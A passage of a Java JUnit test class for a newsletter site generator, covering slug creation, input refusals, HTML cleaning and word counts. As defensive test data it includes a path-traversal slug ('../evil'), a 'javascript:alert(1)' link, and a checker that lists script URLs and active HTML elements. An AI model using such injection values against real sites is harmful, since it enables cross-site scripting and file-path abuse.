    @MethodSource("newHeadlines")
    void newGivesAnyHeadlineItsOwnSlug(String headline, List<String> options, String fileName) throws IOException {
        Path content = siteWith("2026-11-26-fine.md", BRIEF);
        List<String> args = new java.util.ArrayList<>(List.of("new", "--content", content.toString(), headline));
        args.addAll(options);

        Run run = cli(args.toArray(String[]::new));

        assertEquals(0, run.exit(), run.err());
        assertTrue(run.out().strip().endsWith("/briefs/" + fileName), run.out());
        String text = Files.readString(content.resolve("briefs").resolve(fileName));
        assertTrue(text.contains("title: " + headline + "\n"), text);
    }

    static Stream<Arguments> newRefusals() {
        return Stream.of(
                Arguments.of(List.of(""), "HEADLINE: error: title is empty"),
                Arguments.of(List.of("x".repeat(141)), "HEADLINE: error: title has 141 characters; at most 140 are allowed"),
                Arguments.of(List.of("Bell\u0007 rings"), "HEADLINE: error: the headline holds a control character, "
                        + "<U+0007>; write it as one line of text"),
                Arguments.of(List.of("Two\nlines"), "HEADLINE: error: the headline holds a control character, "
                        + "<U+000A>; write it as one line of text"),
                Arguments.of(List.of("\uD83E\uDD80\uD83E\uDD80"), "HEADLINE: error: \"\uD83E\uDD80\uD83E\uDD80\" gives no slug; "
                        + "give one with --slug"),
                Arguments.of(List.of("Fine", "--date", "2024-02-30"), "--date: error: date \"2024-02-30\" is not a valid "
                        + "date; expected YYYY-MM-DD or a date-time with offset"),
                Arguments.of(List.of("Fine", "--tags", "ai,Power Grids"), "--tags: error: tag \"Power Grids\" does not "
                        + "match [a-z0-9]+(-[a-z0-9]+)*"),
                Arguments.of(List.of("Fine", "--slug", "../evil"), "--slug: error: slug \"../evil\" is not a valid slug; "
                        + "expected [a-z0-9]+(-[a-z0-9]+)*, e.g. \"evil\""));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("newRefusals")
    void newRefusesWhatCannotMakeAValidBrief(List<String> given, String message) throws IOException {
        Path content = siteWith("2026-11-26-fine.md", BRIEF);
        List<String> args = new java.util.ArrayList<>(List.of("new", "--content", content.toString()));
        args.addAll(given);
        List<String> before = SiteFiles.list(content);

        Run run = cli(args.toArray(String[]::new));

        assertEquals(2, run.exit(), run.err());
        assertEquals(message + "\nsee 'newsbrief new --help'; nothing was written\n", run.err());
        assertEquals(before, SiteFiles.list(content), "nothing is written");
    }

    @org.junit.jupiter.api.Test
    void cleaningRawHtmlKeepsRelativeAndInPageLinks() throws IOException {
        Path content = siteWith("2026-11-26-links.md", BRIEF.replace("comparisons slow.\n", "comparisons slow.\n\n"
                + "See <b>this</b>: [archive](/archive/), [report](reports/x.html), [note](#note-1), "
                + "<a href=\"#note-2\">raw note</a>, [bad](javascript:alert(1)) and ![chart](img/chart.png).\n"));
        Path out = temp.resolve("out");

        Run run = cli("build", "--content", content.toString(), "--out", out.toString());

        assertEquals(0, run.exit(), run.err());
        Element signal = SiteFiles.html(out.resolve("briefs/links/index.html")).selectFirst("#signal");
        // A path from the site's root goes under the base URL's path (/newsletter/); the others stay as written.
        assertEquals(List.of("/newsletter/archive/", "reports/x.html", "#note-1", "#note-2", ""),
                signal.select("a").stream().map(a -> a.attr("href")).toList(), signal.html());
        assertEquals("img/chart.png", signal.selectFirst("img").attr("src"), signal.html());
        assertNothingRuns(out);
    }

    @org.junit.jupiter.api.Test
    void aStructuralErrorHidesNoOtherProblem() throws IOException {
        String broken = BRIEF.replace("## The Implication\n", "").replace("tags: [energy, grids]\n",
                "tags: [energy, grids]\nslug: river-levels\n").replace("Until now", "TK Until now")
                .replace("[hostile](x)", "").replace("comparisons slow.", "comparisons slow. [a link](reports/x.html)");
        Path content = siteWith("2026-11-20-broken.md", broken);

        Run run = cli("check", "--content", content.toString(), "--color=never");

        for (String rule : List.of("section-missing", "placeholder", "file-name-date", "slug-duplicate", "link-url")) {
            assertTrue(run.err().contains("[" + rule + "]"), () -> rule + " missing from:\n" + run.err());
        }
    }

    @org.junit.jupiter.api.Test
    void aLinkWhoseTextIsCodeHasText() throws IOException {
        Path content = siteWith("2026-11-26-code-link.md", BRIEF.replace("comparisons slow.",
                "comparisons slow; see [`Vec::new`](https://doc.rust-lang.org/std/vec/struct.Vec.html)."));

        Run run = cli("check", "--content", content.toString());

        assertEquals(0, run.exit(), run.err());
        assertFalse(run.err().contains("[link-text]"), run.err());
    }

    @org.junit.jupiter.api.Test
    void briefsWithAnyMarkdownExtensionAreRead() throws IOException {
        Path content = siteWith("2026-11-26-upper.MD", BRIEF.replace("outage data\"", "outage data in upper case\""));
        Files.writeString(content.resolve("briefs/2026-11-26-long.markdown"), BRIEF.replace("outage data\"", "data\""));
        Files.writeString(content.resolve("briefs/2026-11-26-capital.Markdown"), BRIEF);
        Path out = temp.resolve("out");

        Run run = cli("build", "--content", content.toString(), "--out", out.toString());

        assertEquals(0, run.exit(), run.err());
        for (String slug : List.of("upper", "long", "capital")) {
            assertTrue(Files.exists(out.resolve("briefs/" + slug + "/index.html")), slug);
        }
    }

    @org.junit.jupiter.api.Test
    void wordsAreCountedInAnyScript() throws IOException {
        String japanese = BRIEF
                .replace("- Five regional grid operators will publish outage data in one shared format.",
                        "- 東京電力は来年から停電の情報を共通の形式で公開する。")
                .replace("- The first joint report is due in March.", "- 最初の共同報告は三月に発表される予定だ。")
                .replace("Until now each operator reported outages its own way, which made comparisons slow.",
                        "これまで各社はそれぞれの方法で停電を報告していたため、比較には時間がかかり、規制当局も全体像を"
                                + "つかめなかった。新しい形式では時刻、地域、影響を受けた世帯の数が同じ項目で記録される。")
                .replace("Watch whether smaller utilities adopt the same format before the spring report.",
                        "小規模な電力会社が春の報告までに同じ形式を採用するかどうかに注目したい。");
        Path content = siteWith("2026-11-26-japanese.md", japanese);
        Path out = temp.resolve("out");

        Run run = cli("build", "--content", content.toString(), "--out", out.toString());

        assertEquals(0, run.exit(), run.err());
        assertFalse(run.err().contains("japanese.md") && run.err().contains("[brief-words]"), run.err());
        String reading = SiteFiles.html(out.resolve("briefs/japanese/index.html")).selectFirst(".meta__reading").text();
        int words = Integer.parseInt(reading.replaceAll(".*, (\\d+) words", "$1"));
        assertTrue(words >= 60 && words <= 110, reading);
    }

    @org.junit.jupiter.api.Test
    void columnsInFrontMatterCountCharactersAsEveryOtherColumnDoes() throws IOException {
        Path content = siteWith("2026-11-26-emoji.md", BRIEF.replace("tags: [energy, grids]",
                "tags: [\"\uD83E\uDD80\uD83E\uDD80\", \"Bad Tag\"]"));

        Run run = cli("check", "--content", content.toString(), "--color=never");

        assertTrue(run.err().contains("2026-11-26-emoji.md:4:16: error: tag \"Bad Tag\""), run.err());
    }

    /** No page holds a script but JSON-LD, an event handler, a frame or a script URL. */
    static void assertNothingRuns(Path site) {
        for (String file : SiteFiles.list(site)) {
            if (!file.endsWith(".html")) {
                continue;
            }
            Document page = SiteFiles.html(site.resolve(file));
            for (Element script : page.select("script")) {
                assertEquals("application/ld+json", script.attr("type"), file + ": " + script);
            }
            assertTrue(page.select("iframe, frame, object, embed, style, form, base, meta[http-equiv]").isEmpty(),
                    file + " holds active elements");
            for (Element element : page.getAllElements()) {
                element.attributes().forEach(attribute -> {
                    assertFalse(attribute.getKey().toLowerCase().startsWith("on"), file + ": " + element);
                    String value = attribute.getValue().replaceAll("\\s", "").toLowerCase();
                    assertFalse(value.startsWith("javascript:") || value.startsWith("vbscript:")
                            || value.startsWith("data:text"), file + ": " + element);
                });
            }
        }
    }
}
